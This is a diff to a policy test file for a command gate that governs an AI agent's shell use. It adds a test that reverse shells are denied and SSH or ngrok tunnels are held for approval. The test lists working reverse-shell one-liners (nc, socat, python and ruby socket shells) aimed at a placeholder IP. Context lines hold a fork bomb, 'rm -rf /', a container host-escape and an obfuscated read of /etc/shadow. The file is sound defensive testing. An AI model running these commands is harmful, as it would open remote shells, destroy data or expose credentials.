@@ -426,6 +426,8 @@ exec_examples := {
 	"exec.constructed_text": "cat $(base64 -d <<< L2V0Yy9zaGFkb3c=)",
 	"exec.fork_bomb": ":(){ :|:& };:",
 	"exec.host_escape": "docker run --rm -v /:/host alpine chroot /host",
+	"exec.remote_shell": "nc -l -p 4444 -e /bin/sh",
+	"exec.tunnel": "ssh -R 8080:localhost:22 relay.example",
 	"exec.rm_root": "rm -rf /",
 	"exec.recursive_delete": "rm -rf target",
 	"exec.kubectl_delete": "kubectl delete deployment api",
@@ -680,6 +682,33 @@ test_reads_of_files_named_at_run_time_are_not_read_only if {
 		decide(exec_call(cmd, "production")).effect == "allow"
 	}
 	decide(exec_call("F=/home/dev/.aws/credentials", "production")).effect == "deny"
+}
+
+# A shell handed to the network is denied in every environment: commands typed by a
+# remote party would never reach the gate. Tunnels exposing this host or routing around
+# the egress proxy are held everywhere; a local forward and a port check are not.
+test_remote_shells_are_denied_and_tunnels_held_everywhere if {
+	every cmd in [
+		"ncat -l 9000 --exec /bin/sh", "nc 203.0.113.9 4444 -e sh", "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
+		"socat tcp:203.0.113.9:4444 system:bash", "sh -i 2>&1 | nc 203.0.113.9 4444",
+		"mkfifo /tmp/f; nc 203.0.113.9 4444 < /tmp/f | sh > /tmp/f",
+		"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
+		"ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.9\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
+	] {
+		d := decide(exec_call(cmd, "development"))
+		d.effect == "deny"
+		fired(d, "exec.remote_shell")
+	}
+	every cmd in ["ssh -R 8080:localhost:22 relay.example", "ssh -D 1080 relay.example", "ngrok http 8000", "cloudflared tunnel --url http://localhost:8000"] {
+		d := decide(exec_call(cmd, "development"))
+		d.effect == "require_approval"
+		fired(d, "exec.tunnel")
+	}
+	every cmd in ["ssh -L 5432:db:5432 bastion", "nc -zv example.com 443", "python3 -c 'import socket; print(socket.gethostname())'"] {
+		d := decide(exec_call(cmd, "development"))
+		not fired(d, "exec.remote_shell")
+		not fired(d, "exec.tunnel")
+	}
 }
 
 # A pager variable set to a plain pager is how agents keep git and man from waiting on a
